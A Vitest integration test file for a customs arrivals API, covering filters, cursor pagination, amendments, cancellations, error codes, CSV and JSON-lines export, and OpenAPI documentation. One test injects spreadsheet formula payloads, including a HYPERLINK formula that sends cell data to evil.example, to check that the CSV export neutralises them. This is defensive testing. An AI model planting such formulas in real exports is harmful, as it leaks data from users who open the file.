/**
 * GET /v1/arrivals and friends over real HTTP on the receiving node (KG), fed by declarations, amendments
 * and cancellations KZ sent over the wire: filters, cursor pagination, one consignment with its history,
 * exports, and problem details for bad input.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api } from '../../helpers/network.js';
import { road, variant } from './fixtures.js';
import { arrival, riskNetwork, send, type RiskNetwork } from './network.js';

let net: RiskNetwork;
/** Three declarations by the same truck API-01, one hour apart; the second carries laptops in a container. */
const ids: string[] = [];

const truck = (hour: number, change: (d: any) => void = () => undefined) =>
  variant(road(), (d) => {
    d.functionalReference = `API-T-${hour}`;
    d.borderTransportMeans.id = 'API01';
    d.expectedArrival = `2026-11-25T${String(hour).padStart(2, '0')}:00:00+06:00`;
    change(d);
  });

beforeAll(async () => {
  net = await riskNetwork();
  ids.push(await send(net.kz, 'aci', truck(10)));
  ids.push(await send(net.kz, 'aci', truck(11, (d) => {
    d.goodsItems[0].hsCode = '8471300000';
    d.transportEquipment = [{ id: 'TKRU4528710', seals: ['CN1'] }];
  })));
  ids.push(await send(net.kz, 'aci', truck(12)));
  for (const id of ids) await arrival(net.kg, id);
});
afterAll(async () => net?.close());

const list = async (qs: string): Promise<any> => {
  const r = await api(net.kg, 'GET', `/v1/arrivals?${qs}`);
  expect(r.status, r.text).toBe(200);
  return r.json;
};

describe('arrivals API', () => {
  it('lists the consignments expected at a border crossing point with their level', async () => {
    const r = await list('borderCrossingPoint=Ak-Zhol&transportMeans=API01');
    expect(r.items.map((a: any) => a.id)).toEqual(ids);
    expect(r.items[0]).toMatchObject({ partner: 'KZ', status: 'active', version: 1, level: 'medium', officeOfEntry: { id: 'KGAKZ001' }, transportMeans: { id: 'API01' } });
  });

  it('narrows the list to an expected arrival window', async () => {
    const r = await list('transportMeans=API01&from=2026-11-25T05:00:00Z&to=2026-11-25T06:00:00Z');
    expect(r.items.map((a: any) => a.id)).toEqual([ids[1]]);
  });

  it('narrows the list by HS code prefix', async () => {
    expect((await list('transportMeans=API01&hsPrefix=8471')).items.map((a: any) => a.id)).toEqual([ids[1]]);
  });

  it('narrows the list by container', async () => {
    expect((await list('container=tkru4528710')).items.map((a: any) => a.id)).toEqual([ids[1]]);
  });

  it('compares trader, transport means and container ids in full-width and other compatibility forms as the characters they stand for', async () => {
    const id = await send(net.kz, 'aci', variant(road(), (d) => {
      d.functionalReference = 'API-NFKC-1';
      d.borderTransportMeans.id = 'ＡＰＩ０９';
      d.consignor.id = 'ＫＺ１２３４５';
      d.transportEquipment = [{ id: 'ＭＳＣＵ１２３４５６７', seals: ['S1'] }];
    }));
    await arrival(net.kg, id);
    for (const qs of ['transportMeans=api09', 'container=MSCU1234567', 'trader=kz12345', `container=${encodeURIComponent('ｍｓｃｕ１２３４５６７')}`]) {
      expect((await list(qs)).items.map((a: any) => a.id), qs).toEqual([id]);
    }
    // and an id sent in ASCII by a full-width filter
    expect((await list(`container=${encodeURIComponent('ＴＫＲＵ４５２８７１０')}`)).items.map((a: any) => a.id)).toEqual([ids[1]]);
  });

  it('narrows the list by trader id, AEO id, partner and office of entry', async () => {
    for (const qs of ['trader=02304201910123', 'aeoId=KZAEO981140001234', 'partner=KZ', 'officeOfEntry=KGAKZ001']) {
      expect((await list(`transportMeans=API01&${qs}`)).items).toHaveLength(3);
    }
    expect((await list('transportMeans=API01&partner=CN')).items).toHaveLength(0);
  });

  it('pages through the list with the cursor', async () => {
    const first = await list('transportMeans=API01&limit=2');
    const second = await list(`transportMeans=API01&limit=2&cursor=${first.nextCursor}`);
    expect([...first.items, ...second.items].map((a: any) => a.id)).toEqual(ids);
    expect(second.nextCursor).toBeNull();
  });

  it('shows the amendment in force with the history of versions', async () => {
    const id = await send(net.kz, 'aci', truck(14, (d) => (d.borderTransportMeans.id = 'API02')));
    await arrival(net.kg, id);
    const am = await send(net.kz, 'aci', truck(15, (d) => {
      d.kind = 'amendment';
      d.borderTransportMeans.id = 'API02';
      d.amendmentReason = 'Truck delayed by one hour';
    }), id);
    const a = await arrival(net.kg, id, (x) => x.version === 2);
    expect(a).toMatchObject({ currentMessageId: am, expectedArrival: '2026-11-25T15:00:00+06:00' });
    expect(a.declaration.amendmentReason).toBe('Truck delayed by one hour');
    expect(a.history.map((h: any) => [h.messageId, h.kind, h.current])).toEqual([[id, 'declaration', false], [am, 'amendment', true]]);
  });

  it('marks a cancelled consignment and lists it only with includeCancelled', async () => {
    const id = await send(net.kz, 'aci', truck(16, (d) => (d.borderTransportMeans.id = 'API03')));
    await arrival(net.kg, id);
    await send(net.kz, 'aci', { kind: 'cancellation', functionalReference: 'API-T-16', reason: 'Consignment withdrawn by the exporter' }, id);
    const a = await arrival(net.kg, id, (x) => x.status === 'cancelled');
    expect(a.cancellation.reason).toBe('Consignment withdrawn by the exporter');
    expect((await list('transportMeans=API03')).items).toHaveLength(0);
    expect((await list('transportMeans=API03&includeCancelled=true')).items.map((x: any) => x.status)).toEqual(['cancelled']);
  });

  it('shows the evidence of every indicator of one consignment', async () => {
    const a = await arrival(net.kg, ids[0]!);
    expect(a.assessment.indicators.length).toBeGreaterThan(0);
    for (const i of a.assessment.indicators) expect(i.evidence.length).toBeGreaterThan(0);
    expect(a.assessment.explanation).toMatch(/^score /);
  });

  it('refuses an invalid query parameter with 422 GNC_SCHEMA_INVALID naming it', async () => {
    for (const [qs, path] of [['hsPrefix=84x', '/hsPrefix'], ['level=critical', '/level'], ['from=yesterday', '/from'], ['limit=0', '/limit'], ['includeCancelled=yes', '/includeCancelled']]) {
      const r = await api(net.kg, 'GET', `/v1/arrivals?${qs}`);
      expect(r.status).toBe(422);
      expect(r.headers.get('content-type')).toContain('application/problem+json');
      expect(r.json.code).toBe('GNC_SCHEMA_INVALID');
      expect(r.json.issues[0].path).toBe(path);
    }
  });

  it('refuses an unknown query parameter with 422 GNC_SCHEMA_INVALID', async () => {
    const r = await api(net.kg, 'GET', '/v1/arrivals?bcp=Korday');
    expect(r.status).toBe(422);
    expect(r.json.issues[0].received).toContain('bcp');
  });

  it('refuses a forged cursor with 422 GNC_SCHEMA_INVALID naming the cursor', async () => {
    const r = await api(net.kg, 'GET', '/v1/arrivals?cursor=bm9wZQ');
    expect(r.status).toBe(422);
    expect(r.json.issues[0].path).toBe('/cursor');
  });

  it('answers an unknown consignment with 404 GNC_NOT_FOUND', async () => {
    const r = await api(net.kg, 'GET', '/v1/arrivals/no-such-consignment');
    expect(r.status).toBe(404);
    expect(r.json.code).toBe('GNC_NOT_FOUND');
  });

  it('refuses a request without a token with 401 GNC_AUTH_MISSING', async () => {
    const r = await fetch(`${net.kg.url}/v1/arrivals`);
    expect(r.status).toBe(401);
    expect(((await r.json()) as { code: string }).code).toBe('GNC_AUTH_MISSING');
  });

  it('exports the filtered arrivals as CSV with a header line', async () => {
    const r = await api(net.kg, 'GET', '/v1/arrivals/export?format=csv&transportMeans=API01');
    expect(r.headers.get('content-type')).toContain('text/csv');
    const lines = r.text.trim().split('\r\n');
    expect(lines[0]).toMatch(/^id,partner,status,version,expectedArrival,/);
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(ids);
  });

  it('exports text a spreadsheet would run as a formula with a leading apostrophe', async () => {
    const id = await send(net.kz, 'aci', variant(road(), (d) => {
      d.functionalReference = 'API-CSV-1';
      d.borderTransportMeans.id = '=1+1';
      d.officeOfEntry.borderCrossingPoint = '=HYPERLINK("http://evil.example/?"&A1,"open")';
      d.transportEquipment = [{ id: '@SUM(A1)', seals: ['S1'] }];
    }));
    await arrival(net.kg, id);
    const r = await api(net.kg, 'GET', `/v1/arrivals/export?format=csv&transportMeans=${encodeURIComponent('=1+1')}`);
    const [header, row, ...rest] = r.text.trim().split('\r\n');
    expect(rest).toEqual([]);
    const at = (column: string): number => header!.split(',').indexOf(column);
    const cells = row!.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    expect(cells[at('id')]).toBe(id);
    expect(cells[at('transportMeans')]).toBe("'=1+1");
    expect(cells[at('borderCrossingPoint')]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(cells[at('containers')]).toBe("'@SUM(A1)");
    expect(cells[at('grossMassKg')]).toMatch(/^\d/);
    // JSON lines carry the values as they are
    const jsonl = await api(net.kg, 'GET', `/v1/arrivals/export?format=jsonl&transportMeans=${encodeURIComponent('=1+1')}`);
    expect(JSON.parse(jsonl.text.trim()).transportMeans.id).toBe('=1+1');
  });

  it('exports the filtered arrivals as JSON lines', async () => {
    const r = await api(net.kg, 'GET', '/v1/arrivals/export?format=jsonl&transportMeans=API01&hsPrefix=8471');
    const rows = r.text.trim().split('\n').map((l) => JSON.parse(l));
    expect(rows.map((x) => x.id)).toEqual([ids[1]]);
  });

  it('documents the arrivals and AEO endpoints in the OpenAPI document', async () => {
    const r = await api(net.kg, 'GET', '/v1/openapi.json');
    expect(Object.keys(r.json.paths)).toEqual(expect.arrayContaining(['/v1/arrivals', '/v1/arrivals/{id}', '/v1/arrivals/stream', '/v1/arrivals/export', '/v1/aeo', '/v1/aeo/pending', '/v1/aeo/{partner}/{aeoId}']));
    expect(r.json.components.schemas.ArrivalView).toBeDefined();
    expect(r.json.components.schemas.AeoPendingList).toBeDefined();
    // a version newer than the one in force purged first, and the id of a purged version (retention-purged-versions.test.ts)
    expect(r.json.components.schemas.ArrivalView.properties.purgedVersions.description).toMatch(/purged at their retention end/);
    expect(r.json.components.schemas.ArrivalView.required).not.toContain('purgedVersions');
    const one = r.json.paths['/v1/arrivals/{id}'].get.responses;
    expect(one['410'].description).toMatch(/^GNC_ARRIVAL_PURGED: /);
    // an id two partners have needs ?partner= (arrivals-same-id.test.ts)
    expect(one['409'].description).toMatch(/^GNC_CONFLICT: without \?partner=, two or more partners/);
    expect(r.json.paths['/v1/arrivals/{id}'].get.parameters.filter((p: any) => p.in === 'query').map((p: any) => p.name)).toEqual(['partner']);
    expect(one['410'].content['application/problem+json'].schema.$ref).toBe('#/components/schemas/ProblemDetails');
    expect(r.json.components.schemas.ProblemDetails.properties.code.enum).toContain('GNC_ARRIVAL_PURGED');
  });

  it('documents the gap event a resuming stream may start with in the OpenAPI document', async () => {
    const doc = (await api(net.kg, 'GET', '/v1/openapi.json')).json;
    expect(doc.components.schemas.FeedGap.properties.type).toMatchObject({ const: 'gap' });
    expect(doc.paths['/v1/arrivals/stream'].get.responses['200'].content['text/event-stream'].schema.description).toMatch(/event "gap".*FeedGap/);
  });

  it('declares in OpenAPI every templated path parameter and the media types each route serves', async () => {
    const doc = (await api(net.kg, 'GET', '/v1/openapi.json')).json;
    for (const [path, ops] of Object.entries<any>(doc.paths)) {
      const templated = [...path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]);
      for (const op of Object.values<any>(ops)) expect((op.parameters ?? []).filter((p: any) => p.in === 'path').map((p: any) => p.name), path).toEqual(templated);
    }
    expect(Object.keys(doc.paths['/v1/arrivals/stream'].get.responses['200'].content)).toEqual(['text/event-stream']);
    expect(doc.paths['/v1/arrivals/stream'].get.parameters.map((p: any) => p.name)).toContain('last-event-id');
    expect(Object.keys(doc.paths['/v1/arrivals/export'].get.responses['200'].content)).toEqual(['text/csv', 'application/x-ndjson']);
    // the CSV column that says a row shows older data (retention-purged-versions.test.ts)
    expect(doc.paths['/v1/arrivals/export'].get.responses['200'].content['text/csv'].schema.description).toMatch(/purgedVersions holds the ArrivalView purgedVersions as text, "amendment ID created TIME purged TIME; \.\.\."/);
    expect(Object.keys(doc.paths['/v1/messages'].post.requestBody.content)).toEqual(['application/json', 'application/xml']);
    expect(doc.paths['/v1/agreements/import'].post.requestBody.content['application/json'].schema.$ref).toBe('#/components/schemas/SignedAgreement');
  });
});
